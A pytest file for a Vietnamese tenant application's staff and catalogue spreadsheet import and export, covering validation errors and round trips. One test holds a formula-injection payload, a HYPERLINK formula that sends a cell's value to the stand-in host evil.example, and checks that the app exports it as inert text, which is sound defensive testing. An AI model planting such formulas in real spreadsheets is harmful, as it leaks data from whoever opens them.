"""The staff and catalogue import/export kinds: good files, broken files, round trips."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import pytest
import sqlalchemy as sa

from tenant_app.extensions import db
from tenant_app.models import User
from tenant_app.models.catalogue import CatalogueItem
from tenant_app.models.staff import StaffMember
from tenant_app.services.files import import_parsing, import_registry
from tenant_app.services.workspace import catalogue, org, positions, staff
from tenant_app.tenancy import tenant_context
from tests.spreadsheets.xlsx import make_xlsx, read_back
from tests.workspace.conftest import make_structure

STAFF_HEADER = [
    "Mã cán bộ", "Họ và tên", "Loại", "Mã đơn vị", "Mã vị trí việc làm", "Mã người quản lý",
    "Nhóm nhiệm vụ tương đồng", "Mã ngạch", "Lương tháng", "Ngày bắt đầu", "Tên đăng nhập",
]  # fmt: skip
CATALOGUE_HEADER = [
    "Mã", "Tên", "Loại", "Đơn vị tính", "Hệ số quy đổi", "Chỉ tiêu", "Chiều", "Cận dưới",
    "Cận trên", "Cách chấm", "Khung điểm", "Tổng hợp", "Vị trí áp dụng", "Yêu cầu minh chứng",
    "Mô tả", "Ngày hiệu lực",
]  # fmt: skip


def api(tenant_slug: str) -> str:
    return f"/api/v1/t/{tenant_slug}"


def upload(client, headers, data: bytes, kind: str, slug: str = "phuong-a") -> dict:
    response = client.post(
        f"{api(slug)}/imports",
        data={"kind": kind, "file": (io.BytesIO(data), f"{kind}.xlsx")},
        headers=headers,
        content_type="multipart/form-data",
    )
    assert response.status_code == 202, response.get_json()
    return response.get_json()


def commit(client, headers, body: dict, slug: str = "phuong-a") -> dict:
    response = client.post(f"{api(slug)}/imports/{body['id']}/commit", headers=headers)
    assert response.status_code == 202, response.get_json()
    return client.get(f"{api(slug)}/imports/{body['id']}", headers=headers).get_json()


def messages(body: dict) -> dict[tuple[int, str], str]:
    return {(p["row"], p["column"]): p["message"] for p in body["problems"]}


def staff_codes(tenant) -> set[str]:
    db.session.expire_all()
    with tenant_context(tenant):
        return set(db.session.execute(sa.select(StaffMember.code)).scalars())


def item_codes(tenant) -> set[str]:
    db.session.expire_all()
    with tenant_context(tenant):
        return set(db.session.execute(sa.select(CatalogueItem.code)).scalars())


def export_rows(client, headers, kind: str, slug: str = "phuong-a") -> list[tuple]:
    response = client.get(f"{api(slug)}/exports/{kind}.xlsx", headers=headers)
    assert response.status_code == 200
    return list(read_back(response.data).iter_rows(values_only=True))


def make_units_and_positions(tenant) -> None:
    """The units and positions of ``make_structure`` (same codes), without people or items."""
    with tenant_context(tenant):
        root = org.create_org_unit(
            {"code": "UB", "name": "UBND phường", "kind": "committee",
             "effective_from": date(2025, 7, 1)}
        )  # fmt: skip
        org.create_org_unit(
            {"code": "VP", "name": "Văn phòng HĐND và UBND", "kind": "body",
             "parent_id": root.id, "effective_from": date(2025, 7, 1)}
        )  # fmt: skip
        positions.create_position(
            {"code": "LD", "name": "Chánh Văn phòng", "position_group": "leader_head"}
        )
        positions.create_position(
            {"code": "CV", "name": "Chuyên viên văn thư", "position_group": "professional_common"}
        )
        db.session.commit()


@pytest.fixture()
def structure_a(tenant_a):
    """Tenant A's committee, office (VP), positions LD and CV, people NS1 and NS2, item SP01."""
    return make_structure(tenant_a)


def good_staff_rows() -> list[list]:
    return [
        ["CB10", "Phạm Văn Mười", "Công chức", "VP", "CV", "CB11", "Văn thư", "01.003",
         9500000, "01/08/2025", "staff.a"],
        ["CB11", "Đỗ Thị Mười Một", "viên chức", "VP", "LD", "NS1", None, None,
         None, datetime(2025, 8, 1), None],
        ["CB12", "Hoàng Văn Mười Hai", "hop_dong", "UB", "CV", "CB11", None, None,
         0, "2025-09-15", None],
    ]  # fmt: skip


def test_staff_import_good_file_creates_people_with_unit_and_position(
    client, admin_a_api, tenant_a, structure_a, staff_a
):
    """A clean staff file commits; each person has their unit, position, manager and account."""
    body = upload(client, admin_a_api, make_xlsx(good_staff_rows(), STAFF_HEADER), "staff")
    assert (body["state"], body["rows"], body["problems"]) == ("ready", 3, [])
    status = commit(client, admin_a_api, body)
    assert (status["state"], status["created"]) == ("committed", 3)
    db.session.expire_all()
    with tenant_context(tenant_a):
        people = {p.code: p for p in db.session.execute(sa.select(StaffMember)).scalars()}
        posts = staff.current_assignments()
        got = {
            code: (posts[people[code].id].org_unit.code, posts[people[code].id].position.code)
            for code in ("CB10", "CB11", "CB12")
        }
        assert got == {"CB10": ("VP", "CV"), "CB11": ("VP", "LD"), "CB12": ("UB", "CV")}
        assert people["CB10"].manager_id == people["CB11"].id  # manager further down the file
        assert people["CB11"].manager_id == people["NS1"].id
        assert people["CB10"].user_id == staff_a.id
        assert people["CB10"].monthly_salary == Decimal(9500000)
        assert (people["CB10"].staff_type, people["CB12"].staff_type) == ("cong_chuc", "hop_dong")
        assert people["CB11"].start_date == date(2025, 8, 1)
        assert people["CB12"].start_date == date(2025, 9, 15)


def test_staff_import_unknown_position_changes_nothing(client, admin_a_api, tenant_a, structure_a):
    """An unknown position or unit code is named on its row, and nothing is written."""
    before = staff_codes(tenant_a)
    rows = good_staff_rows()
    rows[1][4] = "KHONGCO"
    rows[2][3] = "XA"
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    assert body["state"] == "invalid"
    found = messages(body)
    assert "KHONGCO" in found[(3, "Mã vị trí việc làm")]
    assert "XA" in found[(4, "Mã đơn vị")]
    response = client.post(f"{api('phuong-a')}/imports/{body['id']}/commit", headers=admin_a_api)
    assert response.status_code == 409
    assert staff_codes(tenant_a) == before


def test_staff_import_duplicate_code_changes_nothing(client, admin_a_api, tenant_a, structure_a):
    """A code already in the unit or repeated in the file is refused and nothing is written."""
    before = staff_codes(tenant_a)
    rows = good_staff_rows()
    rows[1][0] = "NS1"  # in the database
    rows[2][0] = "CB10"  # repeated in the file
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    found = messages(body)
    assert "đã có trong đơn vị" in found[(3, "Mã cán bộ")]
    assert found[(4, "Mã cán bộ")] == "Trùng mã cán bộ với dòng 2."
    assert body["state"] == "invalid"
    assert staff_codes(tenant_a) == before


def test_staff_import_bad_date_changes_nothing(client, admin_a_api, tenant_a, structure_a):
    """An impossible start date is reported in Vietnamese and nothing is written."""
    before = staff_codes(tenant_a)
    rows = good_staff_rows()
    rows[0][9] = "31/02/2025"
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    assert body["state"] == "invalid"
    assert messages(body)[(2, "Ngày bắt đầu")].startswith("Ngày không hợp lệ")
    assert staff_codes(tenant_a) == before


def test_staff_import_manager_and_salary_problems_are_named(
    client, admin_a_api, tenant_a, structure_a
):
    """A manager in neither the unit nor the file, a cycle and a negative salary are reported."""
    before = staff_codes(tenant_a)
    rows = good_staff_rows()
    rows[1][5] = "CB12"  # CB11 -> CB12 -> CB11
    rows[0][5] = "AI.DO"
    rows[2][8] = -1
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    found = messages(body)
    assert "AI.DO" in found[(2, "Mã người quản lý")]
    assert "vòng" in found[(3, "Mã người quản lý")]
    assert found[(4, "Lương tháng")] == "Lương tháng không được âm."
    assert staff_codes(tenant_a) == before


def test_staff_import_formula_cell_stays_text(client, admin_a_api, tenant_a, structure_a):
    """A name typed as '=HYPERLINK(...)' is stored as that text and exported as a text cell."""
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
    rows = good_staff_rows()[2:]
    rows[0][1] = formula
    rows[0][5] = None
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    assert body["state"] == "ready", body
    commit(client, admin_a_api, body)
    with tenant_context(tenant_a):
        assert staff.find_staff("CB12").full_name == formula
    response = client.get(f"{api('phuong-a')}/exports/staff.xlsx", headers=admin_a_api)
    sheet = read_back(response.data)
    cell = next(r[1] for r in sheet.iter_rows(min_row=2) if r[0].value == "CB12")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


def good_catalogue_rows() -> list[list]:
    empty = [None] * 16

    def row(**cells):
        values = list(empty)
        for key, value in cells.items():
            values[CATALOGUE_HEADER.index(key)] = value
        return values

    return [
        row(**{"Mã": "SP02", "Tên": "Hồ sơ một cửa", "Loại": "Sản phẩm/công việc",
               "Đơn vị tính": "hồ sơ", "Hệ số quy đổi": 0.5, "Vị trí áp dụng": "CV; LD",
               "Yêu cầu minh chứng": "Sổ tiếp nhận", "Ngày hiệu lực": "01/01/2026"}),
        row(**{"Mã": "CT01", "Tên": "Tỷ lệ hồ sơ đúng hạn", "Loại": "chỉ tiêu",
               "Đơn vị tính": "%", "Chỉ tiêu": 95, "Chiều": "cao hơn tốt hơn",
               "Cách chấm": "Tỷ lệ so với chỉ tiêu (có trần)", "Tổng hợp": "Trung bình",
               "Vị trí áp dụng": "CV", "Mô tả": "Theo Hệ thống một cửa",
               "Ngày hiệu lực": "01/01/2026"}),
        row(**{"Mã": "CT02", "Tên": "Thời gian xử lý", "Loại": "Chỉ tiêu",
               "Đơn vị tính": "ngày", "Chiều": "Trong khoảng", "Cận dưới": 2, "Cận trên": 5,
               "Cách chấm": "bands", "Khung điểm": "0:0; 2:80; 3:100", "Tổng hợp": "last",
               "Ngày hiệu lực": "01/01/2026"}),
        row(**{"Mã": "CT03", "Tên": "Không để xảy ra sai sót", "Loại": "Chỉ tiêu",
               "Đơn vị tính": "lần", "Chiều": "Đạt/không đạt", "Tổng hợp": "Số lần",
               "Ngày hiệu lực": "01/01/2026"}),
    ]  # fmt: skip


def test_catalogue_import_good_file_creates_local_items(client, admin_a_api, tenant_a, structure_a):
    """A clean catalogue file creates local work items and indicators with their positions."""
    data = make_xlsx(good_catalogue_rows(), CATALOGUE_HEADER)
    body = upload(client, admin_a_api, data, "catalogue")
    assert (body["state"], body["rows"], body["problems"]) == ("ready", 4, [])
    assert commit(client, admin_a_api, body)["created"] == 4
    db.session.expire_all()
    with tenant_context(tenant_a):
        sp02, ct01 = catalogue.find_item("SP02"), catalogue.find_item("CT01")
        ct02, ct03 = catalogue.find_item("CT02"), catalogue.find_item("CT03")
        assert {i.origin for i in (sp02, ct01, ct02, ct03)} == {"local"}
        assert catalogue.latest_version(sp02).coefficient == Decimal("0.5")
        assert set(catalogue.position_ids(sp02)) == {structure_a["clerk_pos"],
                                                     structure_a["head_pos"]}  # fmt: skip
        assert (ct01.direction, ct01.scoring_method, ct01.aggregation) == (
            "higher", "ratio_capped", "average",
        )  # fmt: skip
        assert catalogue.latest_version(ct01).target == Decimal(95)
        assert (ct02.direction, ct02.scoring_method, ct02.aggregation) == ("band", "bands", "last")
        assert (ct03.scoring_method, ct03.aggregation) == ("pass_fail", "count")
        assert catalogue.latest_version(ct03).effective_from == date(2026, 1, 1)


def test_catalogue_import_bad_rows_change_nothing(client, admin_a_api, tenant_a, structure_a):
    """A duplicate code, a zero coefficient, an unknown position and label are all reported."""
    before = item_codes(tenant_a)
    rows = good_catalogue_rows()
    rows[0][0] = "SP01"  # already in the catalogue
    rows[0][4] = 0
    rows[1][12] = "CV; KHONGCO"
    rows[2][6] = "chéo"
    body = upload(client, admin_a_api, make_xlsx(rows, CATALOGUE_HEADER), "catalogue")
    found = messages(body)
    assert body["state"] == "invalid"
    assert "đã có trong danh mục" in found[(2, "Mã")]
    assert found[(2, "Hệ số quy đổi")] == "Hệ số quy đổi phải lớn hơn 0."
    assert "KHONGCO" in found[(3, "Vị trí áp dụng")]
    assert "chéo" in found[(4, "Chiều")]
    assert item_codes(tenant_a) == before


def test_staff_export_reimports_cleanly(
    client, admin_a_api, admin_b_api, tenant_a, tenant_b, structure_a
):
    """Tenant A's staff export imports into a unit with the same codes and exports identically."""
    upload_a = upload(client, admin_a_api, make_xlsx(good_staff_rows()[1:], STAFF_HEADER), "staff")
    commit(client, admin_a_api, upload_a)
    rows_a = export_rows(client, admin_a_api, "staff")
    assert rows_a[0] == tuple(STAFF_HEADER)
    assert {r[0] for r in rows_a[1:]} == {"NS1", "NS2", "CB11", "CB12"}
    make_units_and_positions(tenant_b)
    response = client.get(f"{api('phuong-a')}/exports/staff.xlsx", headers=admin_a_api)
    body = upload(client, admin_b_api, response.data, "staff", slug="phuong-b")
    assert (body["state"], body["problems"]) == ("ready", []), body
    assert commit(client, admin_b_api, body, slug="phuong-b")["created"] == 4
    assert export_rows(client, admin_b_api, "staff", slug="phuong-b") == rows_a


def test_catalogue_export_reimports_cleanly(
    client, admin_a_api, admin_b_api, tenant_a, tenant_b, structure_a
):
    """Tenant A's catalogue export imports into another unit and exports identically."""
    data = make_xlsx(good_catalogue_rows(), CATALOGUE_HEADER)
    commit(client, admin_a_api, upload(client, admin_a_api, data, "catalogue"))
    rows_a = export_rows(client, admin_a_api, "catalogue")
    assert [r[0] for r in rows_a[1:]] == ["CT01", "CT02", "CT03", "SP01", "SP02"]
    make_units_and_positions(tenant_b)
    response = client.get(f"{api('phuong-a')}/exports/catalogue.xlsx", headers=admin_a_api)
    body = upload(client, admin_b_api, response.data, "catalogue", slug="phuong-b")
    assert (body["state"], body["problems"]) == ("ready", []), body
    assert commit(client, admin_b_api, body, slug="phuong-b")["created"] == 5
    assert export_rows(client, admin_b_api, "catalogue", slug="phuong-b") == rows_a


def test_import_kinds_catalogue_template_passes_its_own_validation(app, tenant_a, structure_a):
    """The example rows of the catalogue template are valid in a unit with VP/LD/CV."""
    kind = import_registry.get_import_kind("catalogue")
    with tenant_context(tenant_a):
        parsed = import_parsing.parse(kind, import_registry.template_file(kind))
    assert parsed.problems == [] and parsed.total == 2


def test_import_kinds_samples_load_one_after_the_other(app, factory):
    """In a new unit with only the demo template's positions (LD01, CM01), the org-units sample
    is valid, and once written the staff sample is valid too: their codes match."""
    tenant = factory.tenant("moi", status="onboarding")
    db.session.commit()
    with tenant_context(tenant):
        for code, group in (("LD01", "leader_head"), ("CM01", "professional_common")):
            positions.create_position({"code": code, "name": code, "position_group": group})
        units = import_registry.get_import_kind("org_units")
        parsed = import_parsing.parse(units, import_registry.template_file(units))
        assert parsed.problems == [] and parsed.total == 2
        units.commit(parsed.rows)
        people = import_registry.get_import_kind("staff")
        parsed = import_parsing.parse(people, import_registry.template_file(people))
        assert parsed.problems == [] and parsed.total == 2


def test_staff_import_unknown_account_is_reported(client, admin_a_api, tenant_a, structure_a):
    """A login name that is not an account of the unit is named on its row."""
    with tenant_context(tenant_a):
        assert db.session.execute(sa.select(User).where(User.username == "ma")).first() is None
    rows = good_staff_rows()
    rows[0][10] = "ma"
    body = upload(client, admin_a_api, make_xlsx(rows, STAFF_HEADER), "staff")
    assert "ma" in messages(body)[(2, "Tên đăng nhập")]
